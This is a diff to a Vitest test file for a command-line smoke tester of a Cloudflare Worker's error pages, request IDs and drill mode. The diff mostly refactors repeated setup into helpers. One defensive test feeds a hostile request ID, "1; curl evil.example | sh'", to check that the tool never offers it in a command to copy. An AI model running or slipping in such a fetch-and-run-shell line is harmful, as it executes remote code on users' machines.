@@ -2,6 +2,7 @@
 import { createServer } from 'node:http';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, inject, it, onTestFinished } from 'vitest';
+import { startOnRoute } from '../support/failing-site.ts';
 import {
   type Listener,
   type Origin,
@@ -11,14 +12,8 @@ import {
   unusedPort,
 } from '../support/origin.ts';
 import { listen } from '../support/origin/listener.ts';
-import {
-  ACCOUNT_ID,
-  startTelemetryApi,
-  type TelemetryApi,
-  TOKEN,
-  TOKEN_WITHOUT_PERMISSION,
-} from '../support/telemetry-api.ts';
-import { type RunningWorker, type WorkerdOptions, startWorkerd } from '../support/workerd.ts';
+import { startTelemetryApi, type TelemetryApi, TOKEN_WITHOUT_PERMISSION } from '../support/telemetry-api.ts';
+import { type RunningWorker, startWorkerd } from '../support/workerd.ts';
 import { OPTIONS } from '../../src/cli/smoke/arguments.ts';
 import { askFor } from '../../src/cli/smoke/http-answer.ts';
 import { main } from '../../src/cli/smoke/main.ts';
@@ -27,6 +22,13 @@ import { callCommand, repository, runCommand, runProgram } from './run-command.t
 import { startWranglerDev } from './wrangler-dev.ts';
 
 const ULID = '[0-7][0-9A-HJKMNP-TV-Z]{25}';
+/** Who else is asked for, as the checks of the answers' status name them. */
+const CLIENTS = ['JSON client:', 'Text client:', 'Markdown client:', 'htmx:'];
+/** An answer of the Worker's, as far as the first look goes. */
+const PAGE =
+  'HTTP/1.1 500 x\r\nProxy-Status: edge-error-interceptor; received-status=503\r\n' +
+  'X-Request-Id: 01KAS0Z5G1J8T0N6QH3V9W2XYB\r\nConnection: close\r\n\r\n';
+
 let origin: Origin;
 let worker: RunningWorker;
 
@@ -44,10 +46,9 @@ function smoke(...args: string[]) {
   return callCommand(main, args);
 }
 
-async function startWorker(vars: WorkerdOptions['vars'] = {}): Promise<RunningWorker> {
-  const started = await startWorkerd({ bundle: inject('bundle'), route: origin.host, vars });
-  onTestFinished(() => started.stop());
-  return started;
+/** With a page that works, and this URL, which fails. */
+function smokeFailing(url: string, ...options: string[]) {
+  return smoke(`${worker.url}/ok`, '--failing', url, ...options);
 }
 
 /** A server that gives every connection these bytes as its answer. */
@@ -80,14 +81,17 @@ or --drill.
     expect(exitCode).toBe(0);
   });
 
-  it.each(['/redirect', '/status/404', '/download/100', '/events'])('passes with %s', async (path) => {
-    const { exitCode, stdout } = await smoke(`${worker.url}${path}`);
-    expect(failures(stdout)).toEqual([]);
-    expect(exitCode).toBe(0);
-  });
+  it.each(['/redirect', '/status/404', '/status/999', '/download/100', '/events'])(
+    'passes with %s',
+    async (path) => {
+      const { exitCode, stdout } = await smoke(`${worker.url}${path}`);
+      expect(failures(stdout)).toEqual([]);
+      expect(exitCode).toBe(0);
+    },
+  );
 
   it('passes with a page that fails, shows what was seen, and where to look next', async () => {
-    const { exitCode, stdout } = await smoke(`${worker.url}/ok`, '--failing', '/status/503');
+    const { exitCode, stdout } = await smokeFailing('/status/503');
     expect(failures(stdout)).toEqual([]);
     expect(exitCode).toBe(0);
     expect(stdout).toContain(`${worker.url}/status/503\n  ✓ GET 500\n`);
@@ -121,37 +125,33 @@ or --drill.
   });
 
   it('passes with an origin that does not answer', async () => {
-    const lost = await startWorkerd({ bundle: inject('bundle'), route: `127.0.0.1:${await unusedPort()}` });
-    onTestFinished(() => lost.stop());
-    const { exitCode, stdout } = await smoke(`${worker.url}/ok`, '--failing', `${lost.url}/`);
+    const lost = await startOnRoute({ host: `127.0.0.1:${await unusedPort()}` });
+    const { exitCode, stdout } = await smokeFailing(`${lost.url}/`);
     expect(failures(stdout)).toEqual([]);
     expect(stdout).toContain('Proxy-Status: edge-error-interceptor; error=destination_unavailable');
     expect(exitCode).toBe(0);
   });
 
   it('with ERROR_STATUS = "origin" passes where that was said', async () => {
-    const { url } = await startWorker({ ERROR_STATUS: 'origin' });
-    const silent = await smoke(`${url}/ok`, '--failing', '/status/503');
-    expect(failures(silent.stdout)).toEqual([
-      'GET 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
-      'JSON client: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
-      'Text client: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
-      'Markdown client: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
-      'htmx: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
-      'HEAD 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
-    ]);
+    const { url } = await startOnRoute(origin, { ERROR_STATUS: 'origin' });
+    const silent = await smokeFailing(`${url}/status/503`);
+    expect(failures(silent.stdout)).toEqual(
+      ['GET', ...CLIENTS, 'HEAD'].map(
+        (who) => `${who} 503, expected 500; with ERROR_STATUS = "origin": --error-status origin`,
+      ),
+    );
     expect(silent.exitCode).toBe(1);
-    const said = await smoke(`${url}/ok`, '--failing', '/status/503', '--error-status', 'origin');
+    const said = await smokeFailing(`${url}/status/503`, '--error-status', 'origin');
     expect(failures(said.stdout)).toEqual([]);
     expect(said.exitCode).toBe(0);
   });
 
   it('with INTERCEPT = "pages" passes where that was said', async () => {
-    const { url } = await startWorker({ INTERCEPT: 'pages' });
-    const silent = await smoke(`${url}/ok`, '--failing', '/status/503');
+    const { url } = await startOnRoute(origin, { INTERCEPT: 'pages' });
+    const silent = await smokeFailing(`${url}/status/503`);
     expect(failures(silent.stdout)).not.toEqual([]);
     expect(silent.exitCode).toBe(1);
-    const said = await smoke(`${url}/ok`, '--failing', '/status/503', '--intercept', 'pages');
+    const said = await smokeFailing(`${url}/status/503`, '--intercept', 'pages');
     expect(failures(said.stdout)).toEqual([]);
     expect(said.exitCode).toBe(0);
   });
@@ -167,51 +167,32 @@ describe('an origin that answers HEAD in another way', () => {
         ? `HTTP/1.1 ${status} x\r\nConnection: close\r\n\r\n`
         : 'HTTP/1.1 503 x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n',
     );
-    const strict = await startWorkerd({ bundle: inject('bundle'), route: getOnly.host });
-    onTestFinished(() => strict.stop());
-    const { exitCode, stdout } = await smoke(`${worker.url}/ok`, '--failing', `${strict.url}/`);
+    const strict = await startOnRoute(getOnly);
+    const { exitCode, stdout } = await smokeFailing(`${strict.url}/`);
     expect(failures(stdout)).toEqual([]);
     expect(stdout).toContain(expected);
     expect(exitCode).toBe(0);
   });
 
   it('not at all: the other checks count, and the ID is looked up', async () => {
-    const { host } = await startAnswering((head) => (head.startsWith('HEAD') ? '' : page(500)));
-    const { stdout } = await smoke(`${worker.url}/ok`, '--failing', `http://${host}/`);
+    const { host } = await startAnswering((head) => (head.startsWith('HEAD') ? '' : PAGE));
+    const { stdout } = await smokeFailing(`http://${host}/`);
     expect(stdout).toMatch(/no answer: .*\n *→ npm run lookup|→ npm run lookup.*\n.*no answer: /);
     expect(stdout).toMatch(/ of 23 checks failed\./);
   });
 });
 
-/** An answer of the Worker's, as far as the first look goes. */
-function page(status: number): string {
-  return `HTTP/1.1 ${status} x\r\nProxy-Status: edge-error-interceptor; received-status=503\r\nX-Request-Id: 01KAS0Z5G1J8T0N6QH3V9W2XYB\r\nConnection: close\r\n\r\n`;
-}
-
 describe('a Worker that runs otherwise than was said', () => {
   it('with ERROR_STATUS = "500" is no Worker that keeps the status', async () => {
-    const { stdout } = await smoke(
-      `${worker.url}/ok`,
-      '--failing',
-      '/status/503',
-      '--error-status',
-      'origin',
-    );
-    expect(failures(stdout)).toEqual([
-      'GET 500, expected 503',
-      'JSON client: 500, expected 503',
-      'Text client: 500, expected 503',
-      'Markdown client: 500, expected 503',
-      'htmx: 500, expected 503',
-      'HEAD 500, expected 503',
-    ]);
+    const { stdout } = await smokeFailing('/status/503', '--error-status', 'origin');
+    expect(failures(stdout)).toEqual(['GET', ...CLIENTS, 'HEAD'].map((who) => `${who} 500, expected 503`));
   });
 
   it('with INTERCEPT = "all" is no Worker that leaves API clients alone', async () => {
-    const { stdout } = await smoke(`${worker.url}/ok`, '--failing', '/status/503', '--intercept', 'pages');
+    const { stdout } = await smokeFailing('/status/503', '--intercept', 'pages');
     expect(failures(stdout)).toEqual(
-      ['JSON client', 'Text client', 'Markdown client', 'htmx'].map(
-        (who) => `${who}: 500, the Worker's answer, expected the origin's own (INTERCEPT = "pages")`,
+      CLIENTS.map(
+        (who) => `${who} 500, the Worker's answer, expected the origin's own (INTERCEPT = "pages")`,
       ),
     );
   });
@@ -220,12 +201,10 @@ describe('a Worker that runs otherwise than was said', () => {
     const uuid = '817fc0df-0000-4000-8000-0000000000';
     let asked = 0;
     const { host } = await startAnswering(() =>
-      page(500).replace('01KAS0Z5G1J8T0N6QH3V9W2XYB', `${uuid}${10 + asked++}`),
+      PAGE.replace('01KAS0Z5G1J8T0N6QH3V9W2XYB', `${uuid}${10 + asked++}`),
     );
-    const run = (...options: string[]) =>
-      smoke(`${worker.url}/ok`, '--failing', `http://${host}/`, ...options);
-    expect((await run()).stdout).toContain('expected a ULID');
-    const { stdout } = await run('--trust-request-id', 'true');
+    expect((await smokeFailing(`http://${host}/`)).stdout).toContain('expected a ULID');
+    const { stdout } = await smokeFailing(`http://${host}/`, '--trust-request-id', 'true');
     expect(stdout).toContain(`✓ X-Request-Id: ${uuid}`);
     expect(stdout).toContain('✓ its ID is a request ID, and another one');
   });
@@ -252,10 +231,6 @@ describe('a site that does not', () => {
     expect(exitCode).toBe(1);
   });
 
-  it('passes a page with a status that is no failure', async () => {
-    expect(await smoke(`${worker.url}/status/999`)).toMatchObject({ exitCode: 0 });
-  });
-
   it('fails where the site switches to another protocol', async () => {
     const { host } = await startAnswering(
       () => 'HTTP/1.1 101 x\r\nConnection: Upgrade\r\nUpgrade: a\r\n\r\n',
@@ -278,7 +253,7 @@ describe('a site that does not', () => {
         "Cache-Control: public\r\nContent-Type: text/plain\r\nX-Request-Id: abc\x9b31m\r\nContent-Security-Policy: default-src 'none'; script-src 'unsafe-inline'\r\n" +
         `Connection: close\r\n\r\n${head.startsWith('HEAD') ? 'body' : '{"request_id":"other"}'}`,
     );
-    const { exitCode, stdout } = await smoke(`${worker.url}/ok`, '--failing', `http://${host}/`);
+    const { exitCode, stdout } = await smokeFailing(`http://${host}/`);
     expect(failures(stdout)).toEqual([
       'Content-Type is "text/plain", expected text/html; charset=utf-8',
       'X-Request-Id is "abc\\u009b31m", expected a ULID',
@@ -307,7 +282,7 @@ describe('a site that does not', () => {
 describe('a server that means harm', () => {
   it.each(['GET', 'HEAD'])('and answers %s without end is read up to a limit', async (method) => {
     const { host } = await startEndless(method);
-    const { stdout, exitCode } = await smoke(`${worker.url}/ok`, '--failing', `http://${host}/`);
+    const { stdout, exitCode } = await smokeFailing(`http://${host}/`);
     expect(failures(stdout).join('\n')).toMatch(
       method === 'GET' ? /^no answer: more than 1000000 bytes came$/ : /^HEAD has a body of \d+ bytes$/m,
     );
@@ -331,7 +306,7 @@ describe('a server that means harm', () => {
   it.each(["1; curl evil.example | sh'", '--local http://evil.example', '01KAS0Z5G1J8T0N6QH3V9W2XY'])(
     'and calls %j an ID has it in no line to copy',
     async (id) => {
-      const { host } = await startAnswering(() => page(500).replace('01KAS0Z5G1J8T0N6QH3V9W2XYB', id));
+      const { host } = await startAnswering(() => PAGE.replace('01KAS0Z5G1J8T0N6QH3V9W2XYB', id));
       const { stdout } = await smoke(`http://${host}/`, '--failing', `http://${host}/`);
       expect(stdout).toContain(`✗ X-Request-Id is ${JSON.stringify(id)}, expected a ULID\n`);
       expect(stdout).not.toContain('npm run lookup');
@@ -340,9 +315,9 @@ describe('a server that means harm', () => {
 
   it('and sends long values fills no screen', async () => {
     const { host } = await startAnswering(() =>
-      page(500).replace('Connection', `Vary: ${'x'.repeat(9000)}\r\nConnection`),
+      PAGE.replace('Connection', `Vary: ${'x'.repeat(9000)}\r\nConnection`),
     );
-    const { stdout } = await smoke(`${worker.url}/ok`, '--failing', `http://${host}/`);
+    const { stdout } = await smokeFailing(`http://${host}/`);
     for (const line of stdout.split('\n')) expect(line.length).toBeLessThan(600);
   });
 
@@ -353,7 +328,7 @@ describe('a server that means harm', () => {
       };
       socket.on('drain', more).once('data', (head) => {
         const isIt = head.toString().startsWith(`${method} `);
-        socket.write(page(500));
+        socket.write(PAGE);
         if (isIt) more();
         else socket.end();
       });
@@ -422,7 +397,6 @@ describe('a drill', () => {
   /** Drills while the log goes on to Workers Logs: what comes may also be a late record of the test before. */
   async function drillWhile(
     api: TelemetryApi,
-    env: Readonly<Record<string, string>>,
     logged: (record: Readonly<Record<string, unknown>>) => Readonly<Record<string, unknown>>,
   ) {
     let next = drilled.logs.length;
@@ -431,7 +405,7 @@ describe('a drill', () => {
       next = drilled.logs.length;
     }, 100);
     try {
-      return await drill(`${drilled.url}/ok`, env);
+      return await drill(`${drilled.url}/ok`, api.env);
     } finally {
       clearInterval(arriving);
     }
@@ -440,17 +414,11 @@ describe('a drill', () => {
   async function startApi() {
     const api = await startTelemetryApi();
     onTestFinished(() => api.close());
-    const env = {
-      CLOUDFLARE_ACCOUNT_ID: ACCOUNT_ID,
-      CLOUDFLARE_API_TOKEN: TOKEN,
-      CLOUDFLARE_BASE_URL: api.baseUrl,
-    };
-    return { api, env };
+    return api;
   }
 
   it('proves the page, its other forms, and the record, once Workers Logs has it', async () => {
-    const { api, env } = await startApi();
-    const { exitCode, stdout } = await drillWhile(api, env, (record) => record);
+    const { exitCode, stdout } = await drillWhile(await startApi(), (record) => record);
     expect(failures(stdout)).toEqual([]);
     expect(exitCode).toBe(0);
     expect(stdout).toContain(`${drilled.url}/ok (drill)\n  ✓ the Worker answers the drill\n  ✓ GET 500\n`);
@@ -463,8 +431,7 @@ describe('a drill', () => {
   });
 
   it('fails where the logs have something else under the ID', async () => {
-    const { api, env } = await startApi();
-    const { exitCode, stdout } = await drillWhile(api, env, (record) =>
+    const { exitCode, stdout } = await drillWhile(await startApi(), (record) =>
       failureRecord(String(record['request_id'])),
     );
     expect(failures(stdout)).toEqual([
@@ -526,9 +493,11 @@ describe('a drill', () => {
     },
   );
 
-  it.each([{ ERROR_STATUS: 'origin' }, { INTERCEPT: 'pages' }])('is the same with %j', async (vars) => {
-    const { url } = await startWorker({ DRILL_TOKEN, ...vars });
-    const option = 'INTERCEPT' in vars ? ['--intercept', 'pages'] : ['--error-status', 'origin'];
+  it.each([
+    [{ ERROR_STATUS: 'origin' }, ['--error-status', 'origin']],
+    [{ INTERCEPT: 'pages' }, ['--intercept', 'pages']],
+  ])('is the same with %j', async (vars, option) => {
+    const { url } = await startOnRoute(origin, { DRILL_TOKEN, ...vars });
     for (const options of [[], option]) {
       const { stdout, exitCode } = await drill(`${url}/ok`, {}, ...options);
       expect(failures(stdout)).toEqual([]);
@@ -563,38 +532,26 @@ describe('a drill', () => {
     expect(heads).toEqual([]);
 
     const echo = await startAnswering((head) =>
-      page(500)
-        .replace('; received-status=503', '')
-        .replace('Connection', `Content-Type: ${/X-Error-Drill: (.*)/i.exec(head)?.[1]}\r\nConnection`),
+      PAGE.replace('; received-status=503', '').replace(
+        'Connection',
+        `Content-Type: ${/X-Error-Drill: (.*)/i.exec(head)?.[1]}\r\nConnection`,
+      ),
     );
     const { stdout } = await drill(`http://${echo.host}/`);
     expect(stdout).toContain('Content-Type is "…", expected text/html');
     expect(stdout).not.toContain(DRILL_TOKEN);
   });
 
+  const asked = ['https://shop.example/', '--drill'];
+
   it.each([
     ['over http', ['http://shop.example/', '--drill'], DRILL_TOKEN, 'has to begin with https://'],
-    ['without a token', ['https://shop.example/', '--drill'], '', 'in the environment: DRILL_TOKEN'],
-    ['with a short one', ['https://shop.example/', '--drill'], 'secret-1234', 'has 11 characters'],
-    [
-      'with one of two lines',
-      ['https://shop.example/', '--drill'],
-      `${DRILL_TOKEN}\nX: y`,
-      'holds other characters',
-    ],
-    [
-      'with the token typed',
-      ['--drill', DRILL_TOKEN, 'https://shop.example/'],
-      '',
-      'is read from the environment',
-    ],
+    ['without a token', asked, '', 'in the environment: DRILL_TOKEN'],
+    ['with a short one', asked, 'secret-1234', 'has 11 characters'],
+    ['with one of two lines', asked, `${DRILL_TOKEN}\nX: y`, 'holds other characters'],
+    ['with the token typed', [...asked, DRILL_TOKEN], '', 'is read from the environment'],
+    ['with the token for a URL', ['--drill', DRILL_TOKEN], '', 'is read from the environment'],
     ['with the token after =', [`--drill=${DRILL_TOKEN}`, 'https://shop.example/'], '', "'--drill'"],
-    [
-      'with the token last',
-      ['https://shop.example/', '--drill', DRILL_TOKEN],
-      '',
-      'is read from the environment',
-    ],
   ])('%s is refused before anything is sent', async (_, args, token, expected) => {
     const { exitCode, stdout, stderr } = await callCommand(main, args, { DRILL_TOKEN: token });
     expect(stderr).toContain(expected);
